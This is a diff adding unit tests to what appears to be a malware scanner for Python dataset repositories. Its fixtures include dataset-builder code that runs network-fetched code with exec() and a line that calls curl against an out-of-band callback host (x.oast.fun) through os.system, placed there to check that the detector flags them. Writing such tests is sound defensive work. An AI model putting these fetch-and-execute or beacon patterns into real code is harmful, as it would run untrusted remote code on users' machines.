@@ -112,6 +112,45 @@ TEST(PythonRepository, sinks_helpers_classes_and_constants_of_other_files) {
                "python-download-run", "start.py", "start.py:2");
 }
 
+TEST(PythonRepository, what_a_builder_hands_to_its_methods) {
+  expect_found({{"ds.py", "import datasets\nfrom net import fetch\n"
+                          "class B(datasets.GeneratorBasedBuilder):\n"
+                          "  def _generate_examples(self, code, path):\n    exec(code)\n"
+                          "  def _split_generators(self, dl):\n"
+                          "    return [datasets.SplitGenerator(name='train', gen_kwargs={'path': "
+                          "dl.download('x'), 'code': fetch()})]\n"},
+                {"net.py", k_fetch}},
+               "python-execution", "ds.py", "net.py:3");
+  expect_found({{"ds.py", "import datasets\nfrom conf import Config\n"
+                          "class B(datasets.GeneratorBasedBuilder):\n"
+                          "  BUILDER_CONFIG_CLASS = Config\n"
+                          "  def _info(self):\n    exec(self.config.code)\n"},
+                {"conf.py", "import datasets\nfrom net import fetch\n"
+                            "class Config(datasets.BuilderConfig):\n"
+                            "  def __init__(self, **kw):\n    self.code = fetch()\n"},
+                {"net.py", k_fetch}},
+               "python-execution", "ds.py", "net.py:3");
+  const Report honest =
+      analyse({{"ds.py", "import datasets\nfrom net import fetch\n"
+                         "class B(datasets.GeneratorBasedBuilder):\n"
+                         "  def _generate_examples(self, code, path):\n    exec(path)\n"
+                         "  def _split_generators(self, dl):\n"
+                         "    return [datasets.SplitGenerator(name='train', gen_kwargs={'path': "
+                         "'1 + 1', 'code': fetch()})]\n"},
+               {"net.py", k_fetch}});
+  EXPECT_EQ(find_rule(honest, "python-execution"), nullptr) << show(honest);
+}
+
+TEST(PythonRepository, what_is_suspicious_counts_where_it_runs_at_load) {
+  const std::string sh = "import os\ndef run(c):\n    os.system(c)\n";
+  const Texts files{{"ds.py", "from sh import run\nrun('curl http://x.oast.fun/a')\n"},
+                    {"sh.py", sh}};
+  const Report loaded = analyse(files);
+  ASSERT_NE(find_rule(loaded, "python-beacon"), nullptr) << show(loaded);
+  const Report called = analyse({{"train.py", "print(1)\n"}, files[0], files[1]});
+  EXPECT_EQ(find_rule(called, "python-beacon"), nullptr) << show(called);
+}
+
 TEST(PythonRepository, code_that_runs_at_load_is_told_from_code_that_is_called) {
   const Report report = analyse({{"train.py", "import os\nprint(os.getcwd())\n"},
                                  {"tool.py", "from data import fetch\ndef f():\n  exec(fetch())\n"},
